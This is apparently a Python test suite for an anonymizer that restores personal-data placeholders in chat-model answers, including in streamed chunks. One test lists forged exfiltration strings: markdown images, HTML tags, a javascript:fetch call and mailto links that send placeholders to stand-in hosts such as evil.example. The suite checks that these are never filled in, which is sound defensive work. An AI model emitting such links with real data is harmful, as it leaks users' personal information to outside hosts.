import pytest
from hypothesis import given
from hypothesis import strategies as st

from anonymizer.restore import StreamRestorer, restore
from anonymizer.vault import Vault

VALUES = {
    "PERSONNE": ["Jean Dupont", "Hélène Lefèvre-Ãçõ", "[EMAIL_1] ](https://x"],
    "EMAIL": ["jean.dupont@exemple.fr"],
    "TELEPHONE": ["06 12 34 56 78"],
    "NIR": ["1 85 05 78 006 084 36"],
    "ADRESSE_IP": ["10.0.0.1"],
}


def make_vault() -> Vault:
    vault = Vault()
    for kind, values in VALUES.items():
        for value in values:
            vault.placeholder_for(kind, value)
    return vault


@pytest.fixture
def vault() -> Vault:
    return make_vault()


def streamed(chunks: list[str], vault: Vault) -> str:
    restorer = StreamRestorer(vault)
    return "".join(restorer.feed(chunk) for chunk in chunks) + restorer.flush()


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("Bonjour [PERSONNE_1] !", "Bonjour Jean Dupont !"),
        ("[PERSONNE_2] et [PERSONNE_1]", "Hélène Lefèvre-Ãçõ et Jean Dupont"),
        ("[[PERSONNE_1]](https://exemple.fr)", "[Jean Dupont](https://exemple.fr)"),
        (
            "Voir [le dossier de [PERSONNE_1]](https://exemple.fr/doc)",
            "Voir [le dossier de Jean Dupont](https://exemple.fr/doc)",
        ),
        ("- [PERSONNE_1]\n- [EMAIL_1]\n", "- Jean Dupont\n- jean.dupont@exemple.fr\n"),
        (
            "| Nom | Tél |\n|---|---|\n| [PERSONNE_1] | [TELEPHONE_1] |",
            "| Nom | Tél |\n|---|---|\n| Jean Dupont | 06 12 34 56 78 |",
        ),
        ('```python\nnom = "[PERSONNE_1]"\n```', '```python\nnom = "Jean Dupont"\n```'),
        ("`[EMAIL_1]`", "`jean.dupont@exemple.fr`"),
        ('{"nom":"[PERSONNE_1]","ip":"[ADRESSE_IP_1]"}', '{"nom":"Jean Dupont","ip":"10.0.0.1"}'),
        ("**[PERSONNE_1]**, _[NIR_1]_", "**Jean Dupont**, _1 85 05 78 006 084 36_"),
        ("Note : [PERSONNE_1]. Tél : [TELEPHONE_1]", "Note : Jean Dupont. Tél : 06 12 34 56 78"),
        ("[PERSONNE_1]: présente", "Jean Dupont: présente"),
        ("(voir [PERSONNE_1])", "(voir Jean Dupont)"),
        ("https://exemple.fr [PERSONNE_1]", "https://exemple.fr Jean Dupont"),
        ("[a](https://x.fr) [PERSONNE_1]", "[a](https://x.fr) Jean Dupont"),
        ("![logo](/logo.png)\n[PERSONNE_1]", "![logo](/logo.png)\nJean Dupont"),
        (
            "[a](https://x.fr/ sans fin\n \n[PERSONNE_1]",
            "[a](https://x.fr/ sans fin\n \nJean Dupont",
        ),
        ("<b>[PERSONNE_1]</b>", "<b>Jean Dupont</b>"),
        ("Si a < b alors [PERSONNE_1]", "Si a < b alors Jean Dupont"),
        ("Le 01/02/2024 : [PERSONNE_1]", "Le 01/02/2024 : Jean Dupont"),
        ("Pourquoi ?[PERSONNE_1] #1 [EMAIL_1]", "Pourquoi ?Jean Dupont #1 jean.dupont@exemple.fr"),
        ("[PERSONNE_1][EMAIL_1]", "Jean Dupontjean.dupont@exemple.fr"),
        ("[[PERSONNE_1]]", "[Jean Dupont]"),
        ("[PERSONNE_[PERSONNE_1]", "[PERSONNE_Jean Dupont"),
    ],
)
def test_placeholders_in_running_text_are_restored(
    vault: Vault, answer: str, expected: str
) -> None:
    assert restore(answer, vault) == expected
    assert streamed(list(answer), vault) == expected


@pytest.mark.parametrize(
    "forged",
    [
        "![x](https://evil.example/?d=[EMAIL_1])",
        "[clic](https://evil/[PERSONNE_1])",
        "https://evil/?q=[EMAIL_1]",
        '<img src="https://evil/[NIR_1]">',
        "www.evil.com/[EMAIL_1]",
        "WWW.EVIL.COM/[EMAIL_1]",
        "HTTPS://EVIL/[EMAIL_1]",
        "evil.com/?d=[EMAIL_1]",
        "evil.com:8080/[EMAIL_1]",
        "sous.domaine.evil.io#[EMAIL_1]",
        "192.168.1.1/[EMAIL_1]",
        "ftp://evil/[EMAIL_1]",
        "<https://evil/[EMAIL_1]>",
        "[clic](/chemin/[PERSONNE_1])",
        "[clic]([PERSONNE_1])",
        "![x](\n/api/[EMAIL_1])",
        "[x](https://evil/a\n[EMAIL_1])",
        "![x](<https://evil/ a ) [EMAIL_1]>)",
        "[x](https://evil/?a=(b) [EMAIL_1])",
        '[x](https://evil/ "titre [PERSONNE_1]")',
        "<img src=/x/[NIR_1]>",
        "<a href='x [EMAIL_1]'>lien</a>",
        '<img\nalt="a>b"\nsrc="/p/[NIR_1]">',
        '<div style="background:url(https://evil/[EMAIL_1])">',
        "<!-- [PERSONNE_1] -->",
        "mailto:x@evil.fr?body=[EMAIL_1]",
        "javascript:fetch('//evil/'+'[EMAIL_1]')",
        'https://evil/a"[EMAIL_1]',
        "https://evil/?a=\u00a0[EMAIL_1]",
        "https://evil/?a=\u200b[EMAIL_1]",
        "https://evil/<b>[EMAIL_1]",
    ],
)
def test_placeholders_in_links_are_never_restored(vault: Vault, forged: str) -> None:
    assert restore(forged, vault) == forged
    assert streamed(list(forged), vault) == forged


def test_only_the_link_keeps_its_placeholder(vault: Vault) -> None:
    answer = "[[PERSONNE_1]](https://evil/?n=[PERSONNE_1]) écrit à [EMAIL_1]"
    expected = "[Jean Dupont](https://evil/?n=[PERSONNE_1]) écrit à jean.dupont@exemple.fr"
    assert restore(answer, vault) == expected


@pytest.mark.parametrize(
    "unknown",
    [
        "[PERSONNE_9]",
        "[personne_1]",
        "[PERSONNE_01]",
        "[PERSONNE_1 ]",
        "[ PERSONNE_1]",
        "[INCONNU_1]",
        "[PERSONNE]",
        "PERSONNE_1",
        "[PERSONNE_1",
    ],
)
def test_placeholders_this_vault_did_not_issue_stay(vault: Vault, unknown: str) -> None:
    answer = f"Voici {unknown} et [TELEPHONE_1]."
    assert restore(answer, vault) == f"Voici {unknown} et 06 12 34 56 78."


def test_restored_values_are_not_scanned_again(vault: Vault) -> None:
    # [PERSONNE_3]'s value contains "[EMAIL_1]" and "](https://x": it comes back as written and
    # does not turn the next placeholder into a link target.
    assert restore("[PERSONNE_3] [PERSONNE_1]", vault) == "[EMAIL_1] ](https://x Jean Dupont"


def test_another_conversation_placeholders_stay(vault: Vault) -> None:
    other = Vault()
    other.placeholder_for("PERSONNE", "Marie Curie")
    assert restore("[PERSONNE_1]", other) == "Marie Curie"
    assert restore("[EMAIL_1]", other) == "[EMAIL_1]"


def test_empty_vault_and_text_without_brackets_are_returned_as_is(vault: Vault) -> None:
    text = "Aucun espace réservé ici."
    assert restore(text, vault) is text
    bracketed = "[PERSONNE_1]"
    assert restore(bracketed, Vault()) is bracketed


SENTENCE = "Bonjour [PERSONNE_1], votre IP [ADRESSE_IP_1] est notée."
RESTORED = "Bonjour Jean Dupont, votre IP 10.0.0.1 est notée."


@pytest.mark.parametrize("split", range(len(SENTENCE) + 1))
def test_a_placeholder_split_anywhere_is_restored(vault: Vault, split: int) -> None:
    restorer = StreamRestorer(vault)
    first = restorer.feed(SENTENCE[:split])
    second = restorer.feed(SENTENCE[split:])
    assert first + second + restorer.flush() == RESTORED
    # What the first chunk releases stops, at the latest, where a placeholder started.
    opening = SENTENCE.rfind("[", 0, split)
    closing = SENTENCE.find("]", opening)
    if opening != -1 and split <= closing:
        assert first == restore(SENTENCE[:opening], vault)
    else:
        assert first == restore(SENTENCE[:split], vault)


def test_stream_holds_a_possible_placeholder_prefix_only(vault: Vault) -> None:
    restorer = StreamRestorer(vault)
    assert restorer.feed("Voir [PERS") == "Voir "
    assert restorer.feed("ONNE_1") == ""
    assert restorer.feed("] puis [a") == "Jean Dupont puis [a"
    assert restorer.feed("] et [ ") == "] et [ "
    assert restorer.feed("[") == ""
    assert restorer.feed("é") == "[é"
    assert restorer.feed("[PERS") == ""
    assert restorer.flush() == "[PERS"


def test_stream_holds_no_more_than_the_longest_placeholder_minus_one() -> None:
    vault = Vault()
    vault.placeholder_for("PERSONNE", "Jean")  # "[PERSONNE_1]": 12 characters
    restorer = StreamRestorer(vault)
    assert restorer.feed("x [PERSONNE_1") == "x "  # 11 characters held
    assert restorer.feed("2") == "[PERSONNE_12"  # 12 characters: cannot be an issued placeholder
    assert restorer.feed("]") == "]"
    assert restorer.flush() == ""


def test_stream_holds_nothing_for_an_empty_vault() -> None:
    restorer = StreamRestorer(Vault())
    assert restorer.feed("Voir [PERS") == "Voir [PERS"


def test_link_context_is_carried_across_chunks(vault: Vault) -> None:
    assert streamed(["voir https:", "//evil/?q=", "[EMAIL_1]", " et [EMAIL_1]"], vault) == (
        "voir https://evil/?q=[EMAIL_1] et jean.dupont@exemple.fr"
    )
    assert streamed(["![x]", "(", "https://evil/", "[EMAIL_1])\n", "[EMAIL_1]"], vault) == (
        "![x](https://evil/[EMAIL_1])\njean.dupont@exemple.fr"
    )
    assert streamed(["<im", "g src=", '"/x/', "[NIR_1]", '">', "[NIR_1]"], vault) == (
        '<img src="/x/[NIR_1]">1 85 05 78 006 084 36'
    )
    assert streamed(["ww", "w.", "evil.com/[EM", "AIL_1]"], vault) == "www.evil.com/[EMAIL_1]"


def test_flush_starts_a_new_stream(vault: Vault) -> None:
    restorer = StreamRestorer(vault)
    assert restorer.feed("https://evil/") == "https://evil/"
    assert restorer.flush() == ""
    assert restorer.feed("[EMAIL_1]") == "jean.dupont@exemple.fr"


# Pieces that open and close every kind of link context, plus placeholders known and not.
PIECES = [
    "https://",
    "http:",
    "//",
    "/",
    "www.",
    "evil.com",
    "1.2.3.4",
    "?q=",
    "#",
    ":",
    "mailto:",
    "](",
    "![x](",
    "[a]",
    ")",
    "(",
    "<",
    "<img src=",
    "<a href='",
    '"',
    "'",
    ">",
    "=",
    " ",
    "\n",
    "\t",
    "\u00a0",
    "é",
    "Jean",
    "[",
    "]",
    "[PERS",
    "[PERSONNE_",
    "[PERSONNE_1]",
    "[PERSONNE_3]",
    "[EMAIL_1]",
    "[ADRESSE_IP_1]",
    "[PERSONNE_9]",
    "[personne_1]",
    "`",
    "|",
    "**",
    ".",
    "WWW",
]
ANSWERS = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=30).map(
    "".join
)


@given(ANSWERS, st.data())
def test_any_chunking_gives_the_whole_text_restore(answer: str, data: st.DataObject) -> None:
    vault = make_vault()
    cuts = sorted(data.draw(st.lists(st.integers(0, len(answer)), max_size=12)))
    bounds = [0, *cuts, len(answer)]
    restorer = StreamRestorer(vault)
    released = ""
    for start, end in zip(bounds, bounds[1:], strict=False):
        released += restorer.feed(answer[start:end])
        # Held back: a raw suffix of what came in, shorter than the longest placeholder.
        whole_so_far = restore(answer[:end], vault)
        assert whole_so_far.startswith(released)
        held = whole_so_far[len(released) :]
        assert len(held) < vault.longest_placeholder
        assert answer[:end].endswith(held)
    assert released + restorer.flush() == restore(answer, vault)


# Running text that opens no link context: no ":/?#<(" and no ".".
SAFE_TEXT = st.text(alphabet="abcdeéàWw 0123\n\t,;!-'\"*_|{}[])>", max_size=6)
ISSUED = [(kind, index) for kind, values in VALUES.items() for index in range(1, len(values) + 1)]


@given(st.lists(st.tuples(SAFE_TEXT, st.sampled_from(ISSUED)), max_size=8), SAFE_TEXT)
def test_no_issued_placeholder_survives_in_running_text(
    pieces: list[tuple[str, tuple[str, int]]], tail: str
) -> None:
    vault = make_vault()
    answer = "".join(text + f"[{kind}_{index}]" for text, (kind, index) in pieces) + tail
    expected = "".join(text + VALUES[kind][index - 1] for text, (kind, index) in pieces) + tail
    assert restore(answer, vault) == expected
    restorer = StreamRestorer(vault)
    assert "".join(restorer.feed(char) for char in answer) + restorer.flush() == expected


def test_restore_scales_to_large_answers(vault: Vault) -> None:
    # Linear by construction; this checks a large, link-heavy answer is handled whole and exactly.
    block = "Voir https://evil/?q=[EMAIL_1] et [PERSONNE_1] <b>x</b> [a](b) www.x.fr/ [" * 5000
    expected = "Voir https://evil/?q=[EMAIL_1] et Jean Dupont <b>x</b> [a](b) www.x.fr/ [" * 5000
    assert restore(block, vault) == expected
